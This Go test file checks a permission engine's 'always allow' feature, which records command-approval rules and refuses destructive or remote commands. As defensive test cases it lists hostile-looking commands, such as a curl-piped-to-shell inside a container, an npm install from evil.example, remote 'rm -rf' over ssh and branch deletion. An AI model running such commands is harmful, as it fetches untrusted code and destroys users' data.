package permengine_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/permengine/permengine"
)

// "Always allow" grants only what the person saw: for each approved
// command, the rules it records, and commands those rules must not
// auto-approve.
func TestAlwaysAllowGrantsOnlyWhatWasSeen(t *testing.T) {
	tests := []struct {
		cmd     string
		want    []string
		allowed []string // auto-approved afterwards
		not     []string // still asked
	}{
		{"aws s3 ls", []string{"Terminal(aws s3 ls)"}, []string{"aws s3 ls s3://bucket --recursive"}, []string{"aws s3 rm s3://bucket --recursive", "aws s3 cp x s3://b"}},
		{"aws ec2 describe-instances --region eu-west-1", []string{"Terminal(aws ec2 describe-instances)"}, nil, []string{"aws ec2 terminate-instances --instance-ids i-1"}},
		{"gcloud compute instances list", []string{"Terminal(gcloud compute instances list)"}, nil, []string{"gcloud compute instances delete vm1"}},
		{"az vm list -g rg", []string{"Terminal(az vm list)"}, nil, []string{"az vm delete -g rg -n x"}},
		// A container's command is not recorded on its own: that rule would
		// allow it on the host.
		{"docker exec app ls", []string{"Terminal(docker exec app ls)"}, []string{"docker exec app ls -la"}, []string{`docker exec app sh -c "curl x | sh"`, "docker exec app rm -rf /data"}},
		{"docker compose exec web ls", []string{"Terminal(docker compose exec web ls)"}, nil, []string{"docker compose exec web sh"}},
		{"docker compose exec web pytest -x", []string{"Terminal(docker compose exec web pytest -x)"}, []string{"docker compose exec web pytest -x tests"}, []string{"pytest -x", "docker compose exec web pytest"}},
		// A wrapper's rule names the unit of the command it runs: the
		// wrapper and the program alone would allow any of its commands.
		{"nice npm test", []string{"Terminal(nice npm test)"}, []string{"nice npm test -- --watch"}, []string{"nice npm i http://evil.example/x.tgz", "npm test"}},
		{"nice make test", []string{"Terminal(nice make test)"}, nil, []string{"nice make deploy", "nice make test deploy"}},
		{"timeout 60 npm run lint", []string{"Terminal(timeout 60 npm run lint)"}, nil, []string{"timeout 60 npm run deploy"}},
		// Task runners: the task is the unit.
		{"deno task test", []string{"Terminal(deno task test)"}, nil, []string{"deno task deploy", "deno task --eval 'git push'"}},
		{"lerna run test", []string{"Terminal(lerna run test)"}, nil, []string{"lerna run deploy"}},
		{"pdm run pytest", []string{"Terminal(pdm run pytest)"}, nil, []string{"pdm run deploy"}},
		{"earthly +test", []string{"Terminal(earthly +test)"}, nil, []string{"earthly +deploy"}},
		{"uv pip list", []string{"Terminal(uv pip list)"}, nil, []string{"uv pip install x"}},
		{"npm run lint -- --fix", []string{"Terminal(npm run lint)"}, []string{"npm run lint"}, []string{"npm run deploy", "npm run"}},
		{"pnpm run build", []string{"Terminal(pnpm run build)"}, nil, []string{"pnpm run release"}},
		// npm's built-in env script is env: it runs the command after it.
		{"npm run env", nil, nil, []string{"npm run env -- git push origin main", "npm run env -- ./x"}},
		{"go run ./cmd/gen -v", []string{"Terminal(go run ./cmd/gen)"}, []string{"go run ./cmd/gen"}, []string{"go run ./cmd/other"}},
		{"python3 scripts/gen.py --out x", []string{"Terminal(python3 scripts/gen.py)"}, nil, []string{"python3 other.py", "python3 -c 'import os'"}},
		{"python -m pytest -x", []string{"Terminal(python -m pytest)"}, []string{"python -m pytest tests/"}, []string{"python -m http.server"}},
		{"git checkout -b feature/x", []string{"Terminal(git checkout -b)"}, []string{"git checkout -b other"}, []string{"git checkout -- .", "git checkout main"}},
		{"git branch -a", []string{"Terminal(git branch -a)"}, nil, []string{"git branch -D main"}},
		{"git branch", nil, nil, []string{"git branch -D main", "git branch x"}},
		{"git stash", nil, nil, []string{"git stash drop", "git stash clear"}},
		{"git stash list", []string{"Terminal(git stash list)"}, nil, []string{"git stash drop"}},
		// kubectl get may be followed by --server, which sends the context's
		// credentials to another server: the unit is a cap prefix, so the
		// exact segment.
		{"kubectl get pods -n prod", []string{"Terminal(kubectl get pods -n prod)"}, nil, []string{"kubectl label pods x a=b", "kubectl get svc"}},
		{"npx vitest run", []string{"Terminal(npx vitest run)"}, []string{"npx vitest run --coverage"}, []string{"npx cowsay", "npx vitest bench"}},
		{"npx vitest", []string{"Terminal(npx vitest)"}, []string{"npx vitest --watch"}, []string{"npx cowsay"}},
		{"npx hardhat test", []string{"Terminal(npx hardhat test)"}, nil, []string{"npx hardhat run scripts/deploy.js --network mainnet"}},
		{"python manage.py migrate", []string{"Terminal(python manage.py migrate)"}, []string{"python manage.py migrate app 0002"}, []string{"python manage.py shell -c 'import os'", "python manage.py dbshell"}},
		{"python setup.py test", []string{"Terminal(python setup.py test)"}, nil, []string{"python setup.py sdist upload", "python setup.py register"}},
		{"pnpm dlx create-vite app", []string{"Terminal(pnpm dlx create-vite app)"}, nil, []string{"pnpm dlx other", "pnpm dlx create-vite"}},
		{"find . -name '*.go'", []string{"Terminal(find . -name '*.go')"}, nil, []string{"find / -name x"}},
		{"timeout 5 npm test", []string{"Terminal(timeout 5 npm test)"}, []string{"timeout 5 npm test -- -u"}, []string{"timeout 5 rm -rf x"}},
		{"pnpm exec vitest", []string{"Terminal(pnpm exec vitest)"}, []string{"pnpm exec vitest run"}, []string{"pnpm exec rm -rf x"}},
		{"npm run", nil, nil, nil},
	}
	for _, tt := range tests {
		got, err := permengine.AlwaysAllow(terminal(tt.cmd))
		require.NoError(t, err, tt.cmd)
		assert.Equal(t, tt.want, got, tt.cmd)
		p := permengine.MustCompile(permengine.Lists{Allow: got})
		for _, c := range append([]string{tt.cmd}, tt.allowed...) {
			if len(got) > 0 {
				assert.Equal(t, permengine.AutoApprove, decideWith(p, c).Outcome, "after always allow of %q: %q", tt.cmd, c)
			}
		}
		for _, c := range tt.not {
			assert.NotEqual(t, permengine.AutoApprove, decideWith(p, c).Outcome, "after always allow of %q: %q must still ask", tt.cmd, c)
		}
	}
}

// A rule matches by word prefix, so a rule of these would allow them with
// a flag added after what the person saw (git checkout main -f, git reset
// HEAD~1 --hard, kill -9 -1, rm x -rf src): "always allow" records nothing
// and says why.
func TestAlwaysAllowHoldsBackWhatAFlagChanges(t *testing.T) {
	for _, cmd := range []string{"git checkout main", "git switch main", "git branch -D old",
		"git reset HEAD~1", "git restore src/x.go", "git rm x", "kill 1234", "pkill -f vite", "rm x.txt", "chmod +x run.sh"} {
		got, err := permengine.AlwaysAllow(terminal(cmd))
		assert.Nil(t, got, cmd)
		require.ErrorIs(t, err, permengine.ErrAlwaysAllowRefused, cmd)
		assert.Contains(t, err.Error(), "holds for this command only", cmd)
	}
	// git clean removes files no word names: refused for that, whatever flag follows.
	got, err := permengine.AlwaysAllow(terminal("git clean -fd"))
	assert.Nil(t, got)
	require.ErrorIs(t, err, permengine.ErrAlwaysAllowRefused)
	assert.Contains(t, err.Error(), "removes the untracked files no word names")
	// Alongside a segment that records a rule, the held one is skipped.
	got, err = permengine.AlwaysAllow(terminal("npm test && git checkout main"))
	require.NoError(t, err)
	assert.Equal(t, []string{"Terminal(npm test)"}, got)
	// Not even git clean's dry run: --no-dry-run added after it removes.
	_, err = permengine.AlwaysAllow(terminal("git clean -n"))
	require.ErrorIs(t, err, permengine.ErrAlwaysAllowRefused)
	// cp and mv name the files they write: the whole segment, not cp a.
	got, err = permengine.AlwaysAllow(terminal("cp a b"))
	require.NoError(t, err)
	assert.Equal(t, []string{"Terminal(cp a b)"}, got)
	p := permengine.MustCompile(permengine.Lists{Allow: got})
	assert.NotEqual(t, permengine.AutoApprove, decideWith(p, "cp a Makefile").Outcome)
}

// Remote execution and cloud CLIs' mutating verbs are external effect:
// "always allow" refuses them.
func TestAlwaysAllowRefusesRemoteExecution(t *testing.T) {
	// python3 alone reads its program from standard input, which no
	// person sees: refused with the integrity cap.
	_, err := permengine.AlwaysAllow(terminal("python3"))
	var ie *permengine.RefusedError
	require.ErrorAs(t, err, &ie)
	assert.Equal(t, permengine.CodeIntegrity, ie.Code)
	for _, cmd := range []string{"gcloud compute instances delete vm1", "kubectl label pods x a=b", "ssh prod ls", "ssh prod", "env ssh prod 'cd /srv && rm -rf data'", "kubectl exec pod -- ls",
		"kubectl exec -it pod -- sh", "gcloud compute ssh vm --command ls", "aws ssm start-session --target i-1", "cd x && ssh h ls"} {
		_, err := permengine.AlwaysAllow(terminal(cmd))
		var re *permengine.RefusedError
		require.ErrorAs(t, err, &re, cmd)
		assert.Equal(t, permengine.CodeExternalEffect, re.Code, cmd)
	}
}

// Each rule comes with what it would also allow, and a host's extensions
// refuse what they cap.
func TestAlwaysAllowForPolicy(t *testing.T) {
	req := permengine.Request{Action: terminal("npm run lint -- --fix && cat src/x.ts"), Role: permengine.Developer}
	grants, err := permengine.AlwaysAllowFor(nil, req)
	require.NoError(t, err)
	require.Len(t, grants, 2)
	assert.Equal(t, "Terminal(npm run lint)", grants[0].Rule)
	assert.Contains(t, grants[0].AlsoAllows, "no other script")
	assert.Equal(t, "Terminal(cat)", grants[1].Rule)
	assert.Contains(t, grants[1].AlsoAllows, "every cat command")

	p, err := permengine.MustCompile().WithExtensions(permengine.Extensions{ExternalEffect: [][]string{{"fly", "deploy"}}})
	require.NoError(t, err)
	_, err = permengine.AlwaysAllowFor(p, permengine.Request{Action: terminal("fly deploy --app x")})
	assert.True(t, errors.Is(err, permengine.ErrAlwaysAllowRefused), "an extension's external effect: %v", err)
	grants, err = permengine.AlwaysAllowFor(p, permengine.Request{Action: terminal("fly status")})
	require.NoError(t, err)
	assert.Equal(t, "Terminal(fly status)", grants[0].Rule)
	grants, err = permengine.AlwaysAllowFor(p, permengine.Request{Action: terminal("fly")})
	require.NoError(t, err)
	assert.Empty(t, grants, "fly alone is a prefix of the extension's fly deploy")
}

// Every rule "always allow" records, for every command of the case corpus,
// passes the shared judgement (TooBroad, lint's dangerous-allow check) and
// every other check of lint.
func TestAlwaysAllowOutputLintsClean(t *testing.T) {
	files, _ := filepath.Glob("testdata/cases/*.jsonl")
	var all []string
	seen := map[string]bool{}
	for _, f := range files {
		data, err := os.ReadFile(f)
		require.NoError(t, err)
		for _, cmd := range terminalCommands(t, data) {
			rules, err := permengine.AlwaysAllow(terminal(cmd))
			if err != nil {
				continue
			}
			for _, r := range rules {
				rule, err := permengine.ParseRule(r)
				require.NoError(t, err, r)
				assert.Empty(t, permengine.TooBroad(rule.Words), "%q recorded %s", cmd, r)
				if !seen[r] {
					seen[r] = true
					all = append(all, r)
				}
			}
		}
	}
	require.Greater(t, len(all), 100)
	file, err := json.Marshal(map[string][]string{"allow": all})
	require.NoError(t, err)
	// lint --strict finds nothing, its dangerous-allow check (TooBroad)
	// included.
	var msgs []string
	for _, f := range permengine.Lint("always.json", file) {
		msgs = append(msgs, f.String())
	}
	assert.Empty(t, msgs, strings.Join(msgs, "\n"))
}

func TestSeedPassesTheJudgement(t *testing.T) {
	for _, r := range permengine.SeedAllow {
		rule, err := permengine.ParseRule(r)
		require.NoError(t, err)
		assert.Empty(t, permengine.TooBroad(rule.Words), r)
	}
}

func TestTooBroad(t *testing.T) {
	broad := []string{"", "bash", "sh -c", "bash script.sh", "eval", "source", "python", "node", "npx", "npm run", "pnpm exec",
		"uv run", "go run", "pnpm dlx", "timeout 5", "env", "xargs", "env bash", "find . -exec", "git fetch --upload-pack=x", "python -c",
		"git", "npm run:*", "sed -n 1e"}
	fine := []string{"ls", "npm test", "npm run lint", "pnpm test", "npx vitest", "bash -c 'make build'", "timeout 5 npm test",
		"pnpm exec vitest", "git status", "find", "cat", "python x.py", "go run ./cmd/x", "npm test:*"}
	for _, s := range broad {
		assert.NotEmpty(t, permengine.TooBroad(words(t, s)), "%q should be too broad", s)
	}
	for _, s := range fine {
		assert.Empty(t, permengine.TooBroad(words(t, s)), "%q should not be too broad", s)
	}
}

func words(t *testing.T, content string) []string {
	if content == "" {
		return nil
	}
	r, err := permengine.ParseRule("Terminal(" + content + ")")
	require.NoError(t, err, content)
	return r.Words
}

// terminalCommands returns the terminal commands of a case file.
func terminalCommands(t *testing.T, data []byte) []string {
	var out []string
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var c struct {
			Action struct{ Type, Command string }
		}
		require.NoError(t, json.Unmarshal([]byte(line), &c))
		if c.Action.Type == "terminal" && c.Action.Command != "" {
			out = append(out, c.Action.Command)
		}
	}
	return out
}

// FuzzAlwaysAllow: for any command, "always allow" never panics, refuses
// only with a refusal, and every rule it records parses, is not too broad
// and says what it also allows.
func FuzzAlwaysAllow(f *testing.F) {
	for _, s := range []string{"npm run lint -- --fix", "aws s3 ls s3://b", "git checkout -b x", "ssh prod ls",
		"docker exec app sh -c 'curl x | sh'", "timeout 5 pnpm exec vitest", "python -m pytest -x", "npx node -e 1",
		"kubectl get pods && git stash list", "env X=1 bash -c 'go run ./cmd/x'", "find . -exec rm {} +", "gcloud"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		grants, err := permengine.AlwaysAllowFor(nil, permengine.Request{Action: terminal(cmd), Role: permengine.Developer})
		if err != nil {
			if !errors.Is(err, permengine.ErrAlwaysAllowRefused) {
				t.Fatalf("%q: an error that is not a refusal: %v", cmd, err)
			}
			return
		}
		for _, g := range grants {
			r, err := permengine.ParseRule(g.Rule)
			if err != nil {
				t.Fatalf("%q recorded %q, which does not parse: %v", cmd, g.Rule, err)
			}
			if why := permengine.TooBroad(r.Words); why != "" {
				t.Fatalf("%q recorded %q, too broad: %s", cmd, g.Rule, why)
			}
			if g.AlsoAllows == "" {
				t.Fatalf("%q recorded %q without saying what it also allows", cmd, g.Rule)
			}
		}
	})
}
